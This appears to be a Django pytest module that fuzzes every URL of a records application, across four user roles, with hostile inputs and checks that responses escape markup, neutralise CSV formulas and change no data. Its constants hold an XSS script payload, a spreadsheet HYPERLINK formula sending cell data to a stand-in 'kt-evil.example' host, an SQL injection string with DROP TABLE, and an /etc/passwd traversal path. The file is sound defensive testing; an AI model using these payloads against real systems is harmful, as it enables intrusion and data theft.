"""The attack matrix: every URL of the site × four roles × hostile values.

It reuses the access matrix (``tests/access/test_matrix.py``): its rows say how to build a request
of every URL from a subject's target, so a URL added there is attacked here too. Each row is sent
as the anonymous visitor, a manager (on his own client), an accountant and the administrator, with
its values replaced by hostile ones:

- ``markup``: script and SVG markup, spreadsheet formulas, record ids beyond 64 bits;
- ``junk``: SQL-ish text, 20,000-character strings, path traversal, full-width formula starters,
  negative, exponent and «NaN» ids;
- ``path``: every number in the address replaced by one beyond 64 bits.

For every answer: no server error (the test client re-raises one); an HTML answer never carries
the markup unescaped; a CSV export never carries a formula unneutralised; and an answer that
refused the request (an error status, or the way to the log-in page) — or a GET the matrix
does not mark as a write — changed nothing (a dump of every table before and after).

The world is built once per module inside a transaction rolled back at its end; each case runs in
its own savepoint, so cases cannot see each other's writes.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from django.db import transaction
from django.test import override_settings

from kartoteka.tables.modelfactory import clear_model_cache
from tests.access.conftest import World, build_world
from tests.access.test_matrix import MATRIX, Ctx, Row, _body

ROLES = ("anonymous", "manager", "accountant", "admin")

XSS = '"><script>alert("kt-xss")</script><svg onload=alert(1)>'
#: What must never come back unescaped in HTML.
XSS_RAW = ('<script>alert("kt-xss")', "<svg onload=alert(1)>")
FORMULA = '=HYPERLINK("http://kt-evil.example/?"&A1;"x")'
FULL_WIDTH = "＝1+1"
SQL = "' OR '1'='1'; DROP TABLE auth_user; --"
LONG = "Ж" * 20_000
TRAVERSAL = "../../../../etc/passwd"
HUGE_ID = "99999999999999999999999999"
BAD_IDS = ("-1", "1e9", "NaN", HUGE_ID)

VARIANTS = ("markup", "junk", "path")
#: Keys left as they are: the web form's honeypot must stay empty for the values to be read.
KEEP = {"kt_website"}
#: Keys whose values are record ids (or lists of them).
ID_KEYS = {"ids", "id", "pk", "template", "batch", "manager", "counterparty", "group", "table"}


@pytest.fixture(scope="module")
def hostile_world(django_db_setup, django_db_blocker) -> Iterator[World]:
    """The access world and an accountant, built once for the module and rolled back after it."""
    from kartoteka.access import rights
    from kartoteka.access.services import ACCOUNTING_GROUP
    from tests.access.conftest import _user

    clear_model_cache()
    with django_db_blocker.unblock():
        atomic = transaction.atomic()
        atomic.__enter__()
        try:
            with override_settings(
                PASSWORD_HASHERS=["django.contrib.auth.hashers.MD5PasswordHasher"]
            ):
                world = build_world()
                world.users["accountant"] = _user("buh1", ACCOUNTING_GROUP)
            yield world
        finally:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)
            rights.rights_changed()
            clear_model_cache()


@pytest.fixture(autouse=True)
def _fresh_model_cache():
    """Replaces the suite's fixture of this name, which empties the model cache around every
    test: here the schema is the module's world's, so the models built once serve every case.
    A case that changes the schema (the designer's rows) empties the cache itself
    (:func:`_schema`)."""
    yield


def _schema() -> list[Any]:
    from kartoteka.tables.models import Field, Table

    return [
        list(Table.objects.order_by("pk").values_list("pk", "schema_version")),
        list(Field.objects.order_by("pk").values_list("pk", flat=True)),
    ]


#: Tables a refused request may still write to: sessions, the log-in failures and the audit log
#: (a refused log-in is counted and logged) and the web forms' submission log.
LOGS = {"django_session", "access_loginfailure", "access_auditevent", "webforms_webformsubmission"}


def snapshot() -> list[Any]:
    """Every row of every table but ``LOGS``, read with plain SQL (``dump()`` of the access
    matrix builds the record models, which costs more than the request itself here)."""
    from django.db import connection

    quote = connection.ops.quote_name
    rows = []
    with connection.cursor() as cursor:
        for name in sorted(connection.introspection.table_names(cursor)):
            if name in LOGS or name.startswith("sqlite_"):
                continue
            cursor.execute(f"SELECT * FROM {quote(name)}")
            # A log-in (force_login before each request) sets the user's last_login.
            keep = [i for i, c in enumerate(cursor.description) if c[0] != "last_login"]
            rows.append((name, sorted(repr([r[i] for i in keep]) for r in cursor.fetchall())))
    return rows


def _is_id(key: str, value: Any) -> bool:
    return key in ID_KEYS or isinstance(value, int) or (isinstance(value, str) and value.isdigit())


def _hostile(variant: str, data: dict[str, Any], *, as_json: bool) -> dict[str, Any]:
    """``data`` with every value replaced by a hostile one of ``variant``."""
    texts = (XSS, FORMULA) if variant == "markup" else (SQL, LONG, TRAVERSAL, FULL_WIDTH)
    ids: tuple[Any, ...] = (HUGE_ID,) if variant == "markup" else BAD_IDS
    if as_json:
        ids = (10**30,) if variant == "markup" else (-1, "1e9", None)
    out: dict[str, Any] = {}
    for index, (key, value) in enumerate(data.items()):
        if key in KEEP:
            out[key] = value
        elif isinstance(value, bool):
            out[key] = texts[index % len(texts)]
        elif isinstance(value, list | tuple):
            out[key] = [ids[(index + n) % len(ids)] for n in range(max(1, len(value)))]
        elif _is_id(key, value):
            out[key] = ids[index % len(ids)]
        else:
            out[key] = texts[index % len(texts)]
    if not as_json:
        # Parameters every page may read: search, sort, paging, filters.
        out.setdefault("q", texts[0])
        out.setdefault("o", texts[-1])
        out.setdefault("page", ids[0])
        out.setdefault("fv", texts[0])
    return out


def _hostile_path(path: str) -> str:
    return re.sub(r"/\d+/", f"/{HUGE_ID}/", path)


def _ctx(world: World, role: str, client: Any) -> Ctx:
    target = world.targets["own"]
    user = {
        "anonymous": None,
        "manager": world.users["own"],
        "accountant": world.users["accountant"],
        "admin": world.admin,
    }[role]
    return Ctx(world, target, user, client)


#: Rows whose request changes who is logged in: the next request logs in again.
SESSION_ROWS = {"login", "logout"}


def _send(client: Any, user: Any, row: Row, path: str, data: dict[str, Any]) -> Any:
    if row.name in SESSION_ROWS:
        if user is not None:
            client.force_login(user)  # the previous variant logged him out (or in)
        else:
            client.logout()
    headers = {"HTTP_HX_REQUEST": "true"} if row.htmx else {}
    if TOKEN in data:
        data = {**data, TOKEN: _aged_token(path)}
        headers["HTTP_ORIGIN"] = "http://testserver"
    send = getattr(client, row.method.lower())
    if row.json_body:
        return send(path, json.dumps(data), content_type="application/json", **headers)
    return send(path, data, **headers)


def _aged_token(path: str) -> str:
    from kartoteka.webforms.models import WebForm
    from tests.webforms.conftest import aged_token

    return aged_token(WebForm.objects.get(key=path.strip("/").split("/")[1]))


def _refused(response: Any) -> bool:
    if response.status_code >= 400:
        return True
    return response.status_code == 302 and "/login/" in response.get("Location", "")


def _check_csv(body: str) -> None:
    for row in csv.reader(io.StringIO(body), delimiter=";"):
        for cell in row:
            assert not cell.startswith(("=HYPERLINK", "＝")), cell


def _public_form(ctx: Ctx) -> tuple[str, dict[str, Any]]:
    from tests.access.test_matrix import _webform

    form = _webform(ctx)
    return f"/f/{form.key}/", {"name": "ООО Заявка", TOKEN: "", "kt_website": ""}


#: Requests the access matrix has no row for because they need no rights: a visitor's web form
#: submission (sent from Kartoteka's own page, with a fresh time-trap token each time).
EXTRA = [
    Row("webform_public", "send the public form", "POST", _public_form, {}, write=True),
]
TOKEN = "kt_ts"

CASES = [
    pytest.param(row, role, id=f"{row.name}[{row.verb}]-{role}")
    for row in MATRIX + EXTRA
    for role in ROLES
]


@pytest.mark.parametrize(("row", "role"), CASES)
def test_hostile_values(hostile_world, db, client, row: Row, role: str):
    # given: the row's request for the role
    ctx = _ctx(hostile_world, role, client)
    if ctx.user is not None:
        client.force_login(ctx.user)
    if row.prepare:
        row.prepare(ctx)
    path, data = row.build(ctx)
    schema = _schema()
    try:
        _attack(client, ctx, row, path, data)
    finally:
        # The case's writes are rolled back: so must be the models of a schema it changed.
        if _schema() != schema:
            clear_model_cache()


def _attack(client: Any, ctx: Ctx, row: Row, path: str, data: dict[str, Any]) -> None:
    before = None
    for variant in VARIANTS:
        if variant == "path":
            hostile_path = _hostile_path(path)
            if hostile_path == path:
                continue
            sent = (hostile_path, data)
        else:
            sent = (path, _hostile(variant, data, as_json=row.json_body))
        if before is None:  # the first request, or one after an allowed write
            before = snapshot()
        # when: the hostile request (a server error would raise here)
        response = _send(client, ctx.user, row, *sent)
        # then
        assert response.status_code < 500, (variant, response.status_code)
        body = _body(response)
        kind = response.get("Content-Type", "")
        if kind.startswith("text/html"):
            for raw in XSS_RAW:
                assert raw not in body, (variant, raw)
        if kind.startswith("text/csv"):
            _check_csv(body)
        if row in EXTRA and variant == "markup":
            # the visitor's markup is taken as text
            assert "Спасибо! Мы свяжемся с вами" in body, body[:500]
        if _refused(response) or (row.method == "GET" and not row.write):
            assert snapshot() == before, (variant, response.status_code, "changed data")
        else:
            before = None
